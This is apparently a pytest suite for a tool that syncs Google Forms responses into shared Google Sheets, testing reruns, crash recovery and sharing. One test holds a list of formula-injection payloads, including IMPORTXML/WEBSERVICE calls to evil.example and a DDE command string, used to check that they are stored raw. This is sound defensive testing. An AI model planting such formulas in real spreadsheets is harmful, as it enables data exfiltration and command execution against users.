"""ppp-gsuite sync against the local workspace over real HTTP."""

import shutil
from datetime import timedelta

import pytest
from click.testing import CliRunner

from ppp_gsuite.cli import main
from ppp_gsuite.forms.items import question_id
from ppp_gsuite.google.sheets_api import SheetsApi
from ppp_gsuite.sheets.a1 import cell_range
from sync_env import EOI, MINIMAL, TAB, Crash, KilledAt  # noqa: E402

HEART = "opportunity:heart-board"


def test_a_response_becomes_one_row_and_reruns_change_nothing(env, local):
    env.answer("eoi-heart-board", EOI, full_name="Robin Applicant", email="robin@example.org")
    report = env.apply()
    assert report.added == 1
    rows = env.records(HEART)
    assert len(rows) == 1
    assert rows[0]["Name"] == "Robin Applicant" and rows[0]["Status"] == "New"
    assert len(rows[0]["Reference"]) >= 12
    before = len(local.requests())
    again = env.apply()
    assert again.added == 0 and again.updated == 0
    assert {r["method"] for r in local.requests()[before:]} == {"GET"}
    assert len(env.records(HEART)) == 1


def test_sync_stays_right_after_a_lead_sorts_inserts_a_column_and_sets_statuses(env, local):
    first = [
        env.answer("eoi-heart-board", EOI, full_name=name, email=f"{name.lower()}@example.org")
        for name in ("Cara", "Abe", "Bea")
    ]
    env.apply()
    sheet_id = env.spreadsheet(HEART)
    # The lead inserts a column before everything, sorts the rows by name (Sheets' sortRange), sets statuses.
    tab_id = next(
        s["properties"]["sheetId"] for s in env.sheets.metadata(sheet_id)["sheets"] if s["properties"]["title"] == TAB
    )
    env.sheets.batch_update(
        sheet_id,
        [{"insertDimension": {"range": {"sheetId": tab_id, "dimension": "COLUMNS", "startIndex": 0, "endIndex": 1}}}],
    )
    header = env.tab(HEART)[0]
    env.sheets.batch_update(
        sheet_id,
        [
            {
                "sortRange": {
                    "range": {
                        "sheetId": tab_id,
                        "startRowIndex": 1,
                        "startColumnIndex": 0,
                        "endColumnIndex": len(header),
                    },
                    "sortSpecs": [{"dimensionIndex": header.index("Name"), "sortOrder": "ASCENDING"}],
                }
            }
        ],
    )
    values = env.tab(HEART)
    rows = values[1:]
    assert [row[header.index("Name")] for row in rows] == ["Abe", "Bea", "Cara"]
    header[0] = "Lead's own column"
    status = header.index("Status")
    for row in rows:
        row[status] = {"Abe": "Shortlisted", "Bea": "Not appointed", "Cara": "Appointed"}[row[header.index("Name")]]
        row[0] = "my note on " + row[header.index("Name")]
    env.write(HEART, [(cell_range(TAB, 1, 0, len(header) - 1, len(rows) + 1), [header] + rows)])

    cara = next(
        r for r in first if r["answers"][question_id(EOI, "full_name")]["textAnswers"]["answers"][0]["value"] == "Cara"
    )
    edited = dict(cara["answers"])
    edited[question_id(EOI, "email")] = {
        "questionId": question_id(EOI, "email"),
        "textAnswers": {"answers": [{"value": "cara.new@example.org"}]},
    }
    local.edit_response(env.form_ids["eoi-heart-board"], cara["responseId"], {"answers": edited})
    env.answer("eoi-heart-board", EOI, full_name="Dan", email="dan@example.org")
    report = env.apply()
    assert report.added == 1 and report.updated == 1

    records = env.records(HEART)
    assert [r["Name"] for r in records] == ["Abe", "Bea", "Cara", "Dan"]
    by_name = {r["Name"]: r for r in records}
    assert by_name["Abe"]["Status"] == "Shortlisted"
    assert by_name["Bea"]["Status"] == "Not appointed"
    assert by_name["Cara"]["Status"] == "Appointed"
    assert by_name["Cara"]["Email"] == "cara.new@example.org"
    assert by_name["Dan"]["Status"] == "New"
    assert all(by_name[n]["Lead's own column"] == f"my note on {n}" for n in ("Abe", "Bea", "Cara"))
    assert by_name["Dan"]["Lead's own column"] == ""
    assert len({r["Response ID"] for r in records}) == 4


PAYLOADS = [
    '=IMPORTXML("http://evil.example/x", "//a")',
    '=HYPERLINK("http://evil.example", "click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r\n=1+1",
    "=cmd|' /C calc'!A0",
    "'=1+1",
    '=IMAGE("http://evil.example/p.png")',
    '=WEBSERVICE("http://evil.example")',
    "0012",
    "1e10",
    "TRUE",
    "2026-01-01",
    "£5",
    "  spaces  ",
    "<script>alert(1)</script>",
    '=A1&"x"',
]


def test_formula_payloads_are_written_raw_and_read_back_exactly(env):
    clients = env.local.clients()
    bodies = []
    send = clients.sheets.values_batch_update

    def recording(spreadsheet_id, body=None):
        bodies.append(body)
        return send(spreadsheet_id, body)

    clients.sheets.values_batch_update = recording
    free_text = ("full_name", "email", "interests_details", "heart_experience")
    for payload in PAYLOADS:
        env.answer("eoi-heart-board", EOI, **{key: payload for key in free_text}, has_interests="Yes")
    env.apply(sheets=SheetsApi(clients.sheets))
    assert bodies and all(body["valueInputOption"] == "RAW" for body in bodies)
    rows = env.records(HEART)
    assert sorted(r["Name"] for r in rows) == sorted(PAYLOADS)
    for row in rows:
        assert row["Email"] == row["Name"]
        assert row["Tell us about your experience of heart services"] == row["Name"]
        assert "the email address is not valid: correct it in Corrected email" in row["Needs checking"]


def test_needs_assessment_lands_in_the_partners_opportunity_and_unknown_references_are_kept(env):
    env.answer("eoi-heart-board", EOI, full_name="Robin", email="robin@example.org")
    env.apply()
    reference = env.records(HEART)[0]["Reference"]
    env.answer("needs_assessment", "needs_assessment", reference=reference, what="Print")
    env.answer("needs_assessment", "needs_assessment", reference="not-a-real-one", what="Screen")
    report = env.apply()
    assert report.unmatched == 1
    needs = env.records(HEART, "Needs assessments")
    assert len(needs) == 1 and needs[0]["Name"] == "Robin" and needs[0]["What"] == "Print"
    unmatched = env.records("admin", "Unmatched needs assessments")
    assert len(unmatched) == 1 and unmatched[0]["What"] == "Screen"
    assert "reference not found" in unmatched[0]["Needs checking"]


def test_expense_claims_get_mileage_and_totals(env):
    env.answer("eoi-heart-board", EOI, full_name="Robin", email="robin@example.org")
    env.apply()
    reference = env.records(HEART)[0]["Reference"]
    env.answer("expenses", "expenses", reference=reference, how="Car", when="2026-11-01", miles="20", fares="£3.50")
    env.answer("expenses", "expenses", reference=reference, how="Bus", when="2026-11-02", miles="lots", fares="2")
    env.apply()
    claims = sorted(env.records("expenses", "Expense claims"), key=lambda r: r["Date"])
    assert claims[0]["Mileage (£)"] == "9.00" and claims[0]["Total (£)"] == "12.50"
    assert claims[0]["Claim status"] == "Submitted" and claims[0]["Name"] == "Robin"
    assert claims[0]["Role"] == "Heart Care Board"
    assert claims[1]["Total (£)"] == "2.00"
    assert "Miles: is not a number" in claims[1]["Needs checking"]


def test_spreadsheets_are_shared_only_with_who_needs_them(env):
    env.apply()
    files = {f["appProperties"]["target"]: f["id"] for f in env.drive.find("spreadsheet")}

    def readers(target):
        return {p.get("emailAddress") for p in env.drive.permissions(files[target]) if p.get("role") != "owner"}

    assert readers(HEART) == {"alex@example.org"}
    assert readers("opportunity:eye-group") == {"jo@example.org"}
    assert readers("expenses") == {"pat@example.org"}
    assert readers("admin") == set()
    assert readers("engagement") == {"sam@example.org"}


def test_sync_with_nothing_deployed_says_so_and_fails(local, tmp_path, monkeypatch):
    shutil.copytree(MINIMAL, tmp_path, dirs_exist_ok=True)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PPP_GSUITE_LOCAL_URL", local.url)
    result = CliRunner().invoke(main, ["sync"])
    assert result.exit_code == 1
    assert "run ppp-gsuite deploy-forms first" in result.output


@pytest.mark.parametrize("after", [False, True], ids=["before-the-call", "after-the-call"])
def test_a_crash_at_any_point_leaves_every_response_in_its_sheet_exactly_once(env, after):
    for n in range(3):
        env.answer("eoi-heart-board", EOI, full_name=f"Heart {n}", email=f"h{n}@example.org")
        env.answer("eoi-eye-group", EOI, full_name=f"Eye {n}", email=f"e{n}@example.org")
    step = 1
    while True:
        env.clock += timedelta(minutes=1)
        job = KilledAt(step, after).sync(env)
        try:
            job.run()
            break
        except Crash:
            step += 1
    assert step > 10, "the run should have been interrupted at many points"
    env.apply()
    for target, prefix in ((HEART, "Heart"), ("opportunity:eye-group", "Eye")):
        names = sorted(r["Name"] for r in env.records(target))
        assert names == [f"{prefix} {n}" for n in range(3)]
    assert len(env.drive.find("spreadsheet")) == 5


def test_killing_the_sync_process_mid_write_then_rerunning_writes_each_response_once(env, local):
    import os
    import signal
    import subprocess
    import sys
    import time

    config = env.root / "ppp-gsuite.yaml"
    # rows only: emails have their own test; the killed run's lease lapses in 2 seconds (tests/test_lease.py)
    config.write_text(config.read_text() + "email:\n  send: false\nsync:\n  lease_seconds: 2\n")
    for n in range(4):
        env.answer("eoi-heart-board", EOI, full_name=f"Person {n}", email=f"p{n}@example.org")
    # The server applies the first values write, then holds its answer: the process is killed waiting.
    local.json(
        "POST", "/_local/faults", {"method_id": "sheets.spreadsheets.values.batchUpdate", "mode": "hang", "seconds": 20}
    )
    process = subprocess.Popen(
        [sys.executable, "-m", "ppp_gsuite.cli", "sync"],
        cwd=env.root,
        env={**os.environ, "PPP_GSUITE_LOCAL_URL": local.url},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    deadline = time.monotonic() + 20
    while not any(r["methodId"] == "sheets.spreadsheets.values.batchUpdate" for r in local.requests()):
        assert time.monotonic() < deadline and process.poll() is None, process.communicate()
        time.sleep(0.05)
    process.send_signal(signal.SIGKILL)
    process.wait()
    local.request("DELETE", "/_local/faults")
    time.sleep(2.5)  # the killed run's lease lapses
    result = subprocess.run(
        [sys.executable, "-m", "ppp_gsuite.cli", "sync"],
        cwd=env.root,
        env={**os.environ, "PPP_GSUITE_LOCAL_URL": local.url},
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0 and result.stdout.startswith("sync at"), result.stdout + result.stderr
    names = sorted(r["Name"] for r in env.records(HEART))
    assert names == [f"Person {n}" for n in range(4)]


def test_a_renamed_tab_stops_only_its_own_spreadsheet_and_says_what_to_do(env):
    env.answer("eoi-heart-board", EOI, full_name="Heart 1", email="h1@example.org")
    env.apply()
    sheet_id = env.spreadsheet(HEART)
    tab_id = next(
        s["properties"]["sheetId"] for s in env.sheets.metadata(sheet_id)["sheets"] if s["properties"]["title"] == TAB
    )
    env.sheets.batch_update(
        sheet_id, [{"updateSheetProperties": {"properties": {"sheetId": tab_id, "title": "EOIs"}, "fields": "title"}}]
    )
    env.answer("eoi-heart-board", EOI, full_name="Heart 2", email="h2@example.org")
    env.answer("eoi-eye-group", EOI, full_name="Eye 1", email="e1@example.org")
    report = env.apply()
    problems = report.refused["Patient and Public Partners: Heart Care Board (Testshire Care Partnership)"]
    assert "Rename it back" in problems[0] and "Expressions of interest" in problems[0]
    assert [r["Name"] for r in env.records("opportunity:eye-group")] == ["Eye 1"]
    env.sheets.batch_update(
        sheet_id, [{"updateSheetProperties": {"properties": {"sheetId": tab_id, "title": TAB}, "fields": "title"}}]
    )
    report = env.apply()
    assert not report.refused
    assert sorted(r["Name"] for r in env.records(HEART)) == ["Heart 1", "Heart 2"]


def test_a_renamed_response_id_column_never_duplicates_rows(env):
    for n in range(3):
        env.answer("eoi-heart-board", EOI, full_name=f"Heart {n}", email=f"h{n}@example.org")
    env.apply()
    header = env.tab(HEART)[0]
    column = header.index("Response ID")
    env.write(HEART, [(cell_range(TAB, 1, column, column), [["ID"]])])
    report = env.apply(full=True)
    assert (
        "'Response ID'"
        in report.refused["Patient and Public Partners: Heart Care Board (Testshire Care Partnership)"][0]
    )
    assert len(env.tab(HEART)) == 4  # the header and the same three rows
    env.write(HEART, [(cell_range(TAB, 1, column, column), [["Response ID"]])])
    env.apply(full=True)
    assert len(env.tab(HEART)) == 4


def test_a_second_sync_started_while_one_runs_stops_without_doing_anything(env):
    from ppp_gsuite.runlock import single_run

    env.answer("eoi-heart-board", EOI, full_name="Heart 1", email="h1@example.org")
    with single_run(env.root / ".ppp-gsuite" / "sync.lock"):
        result = CliRunner().invoke(main, ["sync"])
    assert result.exit_code == 0
    assert "still running" in result.output
    assert not any(f["appProperties"]["target"] == HEART for f in env.drive.find("spreadsheet"))
    assert CliRunner().invoke(main, ["sync"]).exit_code == 0
    assert [r["Name"] for r in env.records(HEART)] == ["Heart 1"]


def test_a_new_lead_contact_gets_the_sheet_and_the_old_one_loses_it(env):
    env.answer("eoi-heart-board", EOI, full_name="Heart 1", email="h1@example.org")
    env.apply()
    config = env.loaded.workspace.config
    heart = config.opportunities[0]
    new_lead = heart.lead_contact.model_copy(update={"name": "New Lead", "email": "new.lead@example.org"})
    changed = config.model_copy(
        update={"opportunities": [heart.model_copy(update={"lead_contact": new_lead})] + config.opportunities[1:]}
    )
    env.answer("eoi-heart-board", EOI, full_name="Heart 2", email="h2@example.org")
    report = env.apply(config=changed)
    assert not report.refused
    people = {p.get("emailAddress") for p in env.drive.permissions(env.spreadsheet(HEART)) if p.get("role") != "owner"}
    assert people == {"new.lead@example.org"}
    assert report.unshared == [
        "Patient and Public Partners: Heart Care Board (Testshire Care Partnership): alex@example.org"
    ]
    assert sorted(r["Name"] for r in env.records(HEART)) == ["Heart 1", "Heart 2"]
